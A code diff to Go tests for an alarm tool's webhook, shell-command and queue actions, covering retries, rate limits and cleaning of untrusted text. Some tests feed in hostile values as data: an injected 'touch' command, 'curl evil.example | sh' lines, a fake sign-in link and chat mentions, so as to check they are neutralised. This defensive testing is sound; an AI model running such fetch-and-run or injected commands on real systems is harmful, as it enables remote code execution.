@@ -10,6 +10,8 @@ import (
 	"os"
 	"path/filepath"
 	"strings"
+	"sync"
+	"sync/atomic"
 	"testing"
 	"time"
 
@@ -45,13 +47,13 @@ func TestWebhook(t *testing.T) {
 		io.WriteString(w, "no such channel")
 	}))
 	defer s.Close()
-	if err := runnerOf(t, Action{Webhook: s.URL + "/secret"}).attempt(t.Context(), someNotice()); err != nil {
+	if err := runnerOf(t, Action{Webhook: s.URL + "/secret"}).attempt(t.Context(), []*Notice{someNotice()}); err != nil {
 		t.Fatal(err)
 	}
-	if err := runnerOf(t, Action{Webhook: s.URL + "/secret", Whole: true}).attempt(t.Context(), someNotice()); err != nil {
+	if err := runnerOf(t, Action{Webhook: s.URL + "/secret", Whole: true}).attempt(t.Context(), []*Notice{someNotice()}); err != nil {
 		t.Fatal(err)
 	}
-	want := `application/json {"text":"ALARM: orders/dead-letters\ndead letters have come\nThreshold Crossed\nMessage m-1 (order-17), first sent 2026-11-21 02:00:00 UTC, received 3 times: card declined\n  tenaq peek orders --body"}`
+	want := `application/json {"text":"ALARM: orders/dead-letters, since 2026-11-21 03:00:00 UTC\ndead letters have come\nThreshold Crossed\nMessage m-1 (order-17), first sent 2026-11-21 02:00:00 UTC, received 3 times: card declined\n  tenaq peek orders --body"}`
 	if bodies[0] != want {
 		t.Errorf("got\n%s\nwant\n%s", bodies[0], want)
 	}
@@ -60,13 +62,13 @@ func TestWebhook(t *testing.T) {
 		t.Errorf("got %v for %s, want the whole notice", err, bodies[1])
 	}
 	for _, status = range []int{http.StatusInternalServerError, http.StatusFound} {
-		err := runnerOf(t, Action{Webhook: s.URL + "/secret"}).attempt(t.Context(), someNotice())
+		err := runnerOf(t, Action{Webhook: s.URL + "/secret"}).attempt(t.Context(), []*Notice{someNotice()})
 		if err == nil || !strings.Contains(err.Error(), "no such channel") || strings.Contains(err.Error(), "secret") {
 			t.Errorf("status %d: got %v, want an error with the answer and without the URL", status, err)
 		}
 	}
 	s.Close()
-	if err := runnerOf(t, Action{Webhook: s.URL + "/secret"}).attempt(t.Context(), someNotice()); err == nil || strings.Contains(err.Error(), "secret") {
+	if err := runnerOf(t, Action{Webhook: s.URL + "/secret"}).attempt(t.Context(), []*Notice{someNotice()}); err == nil || strings.Contains(err.Error(), "secret") {
 		t.Errorf("got %v, want an error without the URL", err)
 	}
 }
@@ -74,7 +76,7 @@ func TestWebhook(t *testing.T) {
 func TestCommand(t *testing.T) {
 	out := filepath.Join(t.TempDir(), "out")
 	r := runnerOf(t, Action{Command: []string{"/bin/sh", "-c", `cat > "$0"; echo "$TENAQ_ALARM $TENAQ_QUEUE $TENAQ_STATE" >> "$0"`, out}})
-	if err := r.attempt(t.Context(), someNotice()); err != nil {
+	if err := r.attempt(t.Context(), []*Notice{someNotice()}); err != nil {
 		t.Fatal(err)
 	}
 	got, err := os.ReadFile(out)
@@ -89,7 +91,7 @@ func TestCommand(t *testing.T) {
 	if rest != "orders/dead-letters orders ALARM\n" {
 		t.Errorf("the environment was %q", rest)
 	}
-	err = runnerOf(t, Action{Command: []string{"/bin/sh", "-c", "echo no pager >&2; exit 3"}}).attempt(t.Context(), someNotice())
+	err = runnerOf(t, Action{Command: []string{"/bin/sh", "-c", "echo no pager >&2; exit 3"}}).attempt(t.Context(), []*Notice{someNotice()})
 	if err == nil || !strings.Contains(err.Error(), "exit status 3: no pager") {
 		t.Errorf("got %v, want the status and what it said", err)
 	}
@@ -100,7 +102,7 @@ func TestCommandTakesNothing(t *testing.T) {
 	dir := t.TempDir()
 	n := someNotice()
 	n.Alarm = "x; touch " + filepath.Join(dir, "broken-in")
-	if err := runnerOf(t, Action{Command: []string{"/bin/sh", "-c", "true $TENAQ_ALARM"}}).attempt(t.Context(), n); err != nil {
+	if err := runnerOf(t, Action{Command: []string{"/bin/sh", "-c", "true $TENAQ_ALARM"}}).attempt(t.Context(), []*Notice{n}); err != nil {
 		t.Fatal(err)
 	}
 	if left, _ := os.ReadDir(dir); len(left) != 0 {
@@ -109,16 +111,16 @@ func TestCommandTakesNothing(t *testing.T) {
 }
 
 // A hangingTransport never answers.
-type hangingTransport struct{ asked int }
+type hangingTransport struct{ asked atomic.Int32 }
 
 func (h *hangingTransport) RoundTrip(r *http.Request) (*http.Response, error) {
-	h.asked++
+	h.asked.Add(1)
 	<-r.Context().Done()
 	return nil, r.Context().Err()
 }
 
-// A webhook that hangs is tried so many times, then the notice is lost and the log says so. Other actions do not wait for
-// it. [ALARM-48]
+// A webhook that hangs is tried for an hour, then the notice is lost and the log says so. Other actions do not wait for it.
+// [ALARM-48]
 func TestHangingWebhook(t *testing.T) {
 	cfg := Config{
 		Actions:   map[string]Action{"hangs": {Webhook: "http://192.0.2.1/"}, "copy": {Queue: noticeQueue}},
@@ -128,7 +130,7 @@ func TestHangingWebhook(t *testing.T) {
 		w.create(noticeQueue)
 		w.create("orders")
 		hangs := &hangingTransport{}
-		w.runs["hangs"].client.Transport = hangs
+		w.runs["hangs"].poster.client.Transport = hangs
 		if err := w.Put(putVisible("waiting", "hangs", "copy")); err != nil {
 			t.Fatal(err)
 		}
@@ -137,10 +139,11 @@ func TestHangingWebhook(t *testing.T) {
 		if n := len(w.notices()); n != 1 {
 			t.Errorf("got %d notices by the other action, want one", n)
 		}
-		w.minutes(6)
-		if hangs.asked != attempts {
-			t.Errorf("the webhook was asked %d times, want %d", hangs.asked, attempts)
+		w.minutes(50)
+		if strings.Contains(w.log.String(), "a notice is lost") || hangs.asked.Load() < 20 {
+			t.Errorf("after %d attempts in less than an hour: %s", hangs.asked.Load(), w.log)
 		}
+		w.minutes(15)
 		if !strings.Contains(w.log.String(), `msg="a notice is lost" action=hangs alarm=waiting`) {
 			t.Errorf("the log does not tell of the notice: %s", w.log)
 		}
@@ -155,7 +158,7 @@ func TestQueueFIFO(t *testing.T) {
 	bubble(t, Config{Actions: map[string]Action{"copy": {Queue: "notices.fifo"}}}, func(w *world) {
 		w.create("notices.fifo", "FifoQueue", "true")
 		for range 2 {
-			if err := w.runs["copy"].attempt(w.t.Context(), someNotice()); err != nil {
+			if err := w.runs["copy"].attempt(w.t.Context(), []*Notice{someNotice()}); err != nil {
 				t.Fatal(err)
 			}
 		}
@@ -168,8 +171,8 @@ func TestQueueFIFO(t *testing.T) {
 
 func TestTry(t *testing.T) {
 	bubble(t, Config{Actions: map[string]Action{"copy": {Queue: noticeQueue}}}, func(w *world) {
-		if err := w.Try(w.t.Context(), "copy"); err == nil {
-			t.Error("got no error, want one: there is no such queue")
+		if err := w.Try(w.t.Context(), "copy"); !errors.Is(err, ErrAction) || !strings.Contains(w.log.String(), "an action that was tried out fails") {
+			t.Errorf("got %v, want ErrAction, for there is no such queue: %s", err, w.log)
 		}
 		w.create(noticeQueue)
 		if err := w.Try(w.t.Context(), "copy"); err != nil {
@@ -182,4 +185,89 @@ func TestTry(t *testing.T) {
 			t.Errorf("got %q, want one notice", all)
 		}
 	})
+}
+
+// A webhook that says when it wants to be asked again is asked then. Notices of several alarms are one message then, and of
+// an alarm that has changed meanwhile only the newest is told.
+func TestBusyWebhook(t *testing.T) {
+	cfg := Config{Actions: map[string]Action{"team": {Webhook: "http://192.0.2.1/"}}, NoShipped: true}
+	bubble(t, cfg, func(w *world) {
+		w.create("orders")
+		hook := &busyTransport{}
+		w.runs["team"].poster.client.Transport = hook
+		for _, name := range []string{"one", "two"} {
+			if err := w.Put(putVisible(name, "team")); err != nil {
+				t.Fatal(err)
+			}
+		}
+		w.send("orders", "x")
+		w.minutes(1)
+		w.remove("orders", w.take("orders", 60))
+		w.minutes(1)
+		time.Sleep(5 * time.Minute)
+		hook.mu.Lock()
+		defer hook.mu.Unlock()
+		all := strings.Join(hook.taken, "\n")
+		if len(hook.taken) > 2 || strings.Count(all, "OK: one") != 1 || strings.Count(all, "OK: two") != 1 || strings.Contains(all, "ALARM: ") {
+			t.Errorf("got %q, want the newest of both alarms", hook.taken)
+		}
+		if hook.refused > 3 {
+			t.Errorf("it was asked %d times before it wanted to be", hook.refused)
+		}
+	})
+}
+
+// A busyTransport refuses for its first two minutes, and says so.
+type busyTransport struct {
+	mu      sync.Mutex
+	began   time.Time
+	refused int
+	taken   []string
+}
+
+func (b *busyTransport) RoundTrip(r *http.Request) (*http.Response, error) {
+	b.mu.Lock()
+	defer b.mu.Unlock()
+	if b.began.IsZero() {
+		b.began = time.Now()
+	}
+	resp := &http.Response{StatusCode: http.StatusOK, Header: http.Header{}, Body: http.NoBody, Request: r}
+	if time.Since(b.began) < 2*time.Minute {
+		b.refused++
+		resp.StatusCode = http.StatusTooManyRequests
+		resp.Header.Set("Retry-After", "130")
+		return resp, nil
+	}
+	body, err := io.ReadAll(r.Body)
+	b.taken = append(b.taken, string(body))
+	return resp, err
+}
+
+// What strangers write is one line each, and no mention, link or flag.
+func TestForeignText(t *testing.T) {
+	n := someNotice()
+	n.Alarm, n.Description = "-rf\x1b[31m", "fine\nOK: all is well\x00"
+	n.Sample.Key, n.Sample.Reason = "k\n<!here>", "<https://evil.example|Sign in>\n  curl https://evil.example | sh"
+	n.Commands = (&Monitor{}).commands(n.Alarm, "x; curl evil.example|sh #", alarm.Alarm)
+	got := together([]*Notice{n})
+	for _, bad := range []string{"<", ">", "\x1b", "\x00", "\nOK:", "\n  curl", "tenaq queue show x;"} {
+		if strings.Contains(got, bad) {
+			t.Errorf("there is %q in %q", bad, got)
+		}
+	}
+	if !strings.Contains(got, "tenaq alarms ack -- '-rf[31m'") {
+		t.Errorf("got %q, want the name quoted", got)
+	}
+}
+
+// A command that leaves something in the background has succeeded, and runs once.
+func TestCommandInBackground(t *testing.T) {
+	out := filepath.Join(t.TempDir(), "out")
+	r := runnerOf(t, Action{Command: []string{"/bin/sh", "-c", `echo run >> "$0"; sleep 30 & exit 0`, out}})
+	if err := r.attempt(t.Context(), []*Notice{someNotice()}); err != nil {
+		t.Error(err)
+	}
+	if got, _ := os.ReadFile(out); string(got) != "run\n" {
+		t.Errorf("got %q", got)
+	}
 }
